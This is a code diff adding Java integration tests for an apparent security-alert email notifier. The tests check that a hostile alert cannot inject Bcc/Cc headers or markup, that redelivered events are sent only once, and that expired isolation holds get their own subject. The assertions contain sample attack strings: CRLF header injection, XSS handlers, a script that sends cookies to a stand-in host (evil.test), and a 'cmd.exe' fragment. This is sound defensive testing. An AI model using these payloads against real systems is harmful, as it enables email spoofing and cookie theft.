@@ -44,6 +44,10 @@ class NotifierKafkaTest {
 
     private static final Duration TIMEOUT = Duration.ofSeconds(60);
     private static final String ANALYST = "analyst@example.test";
+    /** Every header an email may have: what the mailer and GreenMail write, and ours. */
+    private static final List<String> EXPECTED_HEADERS = List.of("Return-Path", "Received", "From", "To", "Subject",
+            "Message-ID", "Date", "MIME-Version", "Cc", "Content-Type", "Content-Transfer-Encoding",
+            "X-MDE-Response-Event-Id");
 
     @InjectGreenMail
     GreenMail greenMail;
@@ -103,6 +107,89 @@ class NotifierKafkaTest {
                 .contains("Category:         Execution")
                 .contains("Detection source: WindowsDefenderAtp")
                 .contains("Decision id:      " + event.decisionId()));
+    }
+
+    @Test
+    void aHostileAlertYieldsOneEmailToExactlyTheIntendedRecipientsWithItsTextShownAsText() {
+        DecisionMade hostile = Samples.hostileNotifyOnly(Samples.uniqueAlertId(),
+                List.of(ANALYST, "x@evil.test\r\nBcc: y@evil.test", "<z@evil.test>"));
+
+        produce(DecisionMade.class, Topics.DECISIONS.defaultName(), hostile);
+        awaitEmail(hostile.eventId());
+
+        List<ReceivedMail> copies = ReceivedMail.copiesFor(greenMail, hostile.eventId());
+        assertThat(ReceivedMail.distinctEmails(copies)).isEqualTo(1);
+        assertThat(copies).hasSize(3); // the analyst and the two configured recipients, nobody else
+        assertThat(greenMail.getReceivedMessagesForDomain("evil.test")).isEmpty();
+        ReceivedMail mail = copies.get(0);
+        assertThat(mail.to()).containsExactly(ANALYST, NotifierTestProfile.ONCALL, NotifierTestProfile.SOC);
+        // The mailer writes an empty Cc header; it must stay empty, and there must be no Bcc at all.
+        assertThat(mail.headerNames()).doesNotContain("Bcc", "bcc")
+                .allSatisfy(name -> assertThat(EXPECTED_HEADERS).contains(name));
+        assertThat(mail.header("Cc")).as("Cc header").satisfiesAnyOf(
+                cc -> assertThat(cc).isNull(), cc -> assertThat(cc).isBlank());
+        assertThat(mail.recipients(jakarta.mail.Message.RecipientType.CC)).isEmpty();
+        assertThat(mail.recipients(jakarta.mail.Message.RecipientType.BCC)).isEmpty();
+        assertThat(mail.subject()).doesNotContain("\r", "\n")
+                .startsWith("[MDE Response] Medium alert: <b onmouseover=alert(1)>ws-666</b> Cc: cc@evil.test — "
+                        + "Ransomware Bcc: attacker@evil.test <h1>gotcha</h1>");
+        assertThat(mail.part("text/html")).hasValueSatisfying(html -> {
+            assertThat(html).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<img")
+                    .doesNotContainIgnoringCase("<iframe").doesNotContainIgnoringCase("<h1")
+                    .doesNotContainIgnoringCase("<b ").doesNotContainIgnoringCase("href=\"javascript")
+                    .doesNotContainIgnoringCase("href=\\\"javascript")
+                    .contains("&lt;script&gt;fetch(&#39;https://evil.test/&#39;+document.cookie)&lt;/script&gt;"
+                            + "&lt;img src=x onerror=alert(1)&gt;")
+                    .contains("&lt;b onmouseover=alert(1)&gt;ws-666&lt;/b&gt; Cc: cc@evil.test")
+                    .contains("Ransomware Bcc: attacker@evil.test &lt;h1&gt;gotcha&lt;/h1&gt;")
+                    .contains("cmd.exe /c &quot;&lt;a href=");
+            // Only the template's own elements are markup.
+            assertThat(java.util.regex.Pattern.compile("<\\s*([a-zA-Z][a-zA-Z0-9]*)").matcher(html).results()
+                    .map(m -> m.group(1).toLowerCase()).distinct().toList())
+                    .isSubsetOf("html", "head", "meta", "title", "body", "h2", "p", "table", "tr", "th", "td", "a",
+                            "strong");
+            assertThat(html).contains("href=\"" + NotifierTestProfile.PORTAL + "/alerts/" + hostile.alert().alertId())
+                    .contains("First event</th><td>2026-11-27T09:59:00Z")
+                    .contains("Last event</th><td>2026-11-27T09:59:30Z")
+                    .contains("Device group</th><td>Workstations");
+        });
+        assertThat(mail.part("text/plain")).hasValueSatisfying(text -> assertThat(text)
+                .contains("Rule input alert.description: " + Samples.HOSTILE_DESCRIPTION)
+                .contains("Machine:          <b onmouseover=alert(1)>ws-666</b> Cc: cc@evil.test"));
+    }
+
+    @Test
+    void aRedeliveredEventSendsNothingTwice() {
+        DecisionMade decision = Samples.notifyOnly(Samples.alert(Samples.uniqueAlertId(), "Twice", Severity.Medium),
+                List.of(ANALYST));
+        DecisionMade control = Samples.notifyOnly(Samples.alert(Samples.uniqueAlertId(), "Control",
+                Severity.Medium), List.of());
+
+        produce(DecisionMade.class, Topics.DECISIONS.defaultName(), decision, decision, control);
+        awaitEmail(control.eventId());
+
+        assertThat(ReceivedMail.distinctEmails(ReceivedMail.copiesFor(greenMail, decision.eventId()))).isEqualTo(1);
+    }
+
+    @Test
+    void anExpiredHoldHasItsOwnSubject() {
+        DecisionMade held = DecisionMade.forAlert(Samples.alert(Samples.uniqueAlertId(), "Held", Severity.High),
+                "isolate-high", "bundled-1", java.util.Map.of(), List.of(io.mderesponse.contracts.event.RuleAction.ISOLATE),
+                io.mderesponse.contracts.defender.IsolationType.Full, io.mderesponse.contracts.event.DecisionOutcome.HELD,
+                List.of(ANALYST), "hourly cap reached");
+        DecisionMade expired = DecisionMade.settling(held, io.mderesponse.contracts.event.DecisionOutcome.EXPIRED, null,
+                "approval.ttl passed");
+
+        produce(DecisionMade.class, Topics.DECISIONS.defaultName(), held, expired);
+        awaitEmail(expired.eventId());
+
+        assertThat(ReceivedMail.copiesFor(greenMail, held.eventId()).get(0).subject())
+                .startsWith("[MDE Response] Isolation held for approval: ws-042.contoso.com");
+        ReceivedMail mail = ReceivedMail.copiesFor(greenMail, expired.eventId()).get(0);
+        assertThat(mail.subject())
+                .startsWith("[MDE Response] Held isolation expired, machine not isolated: ws-042.contoso.com");
+        assertThat(mail.part("text/plain")).hasValueSatisfying(text -> assertThat(text)
+                .contains("the machine was NOT isolated"));
     }
 
     @Test
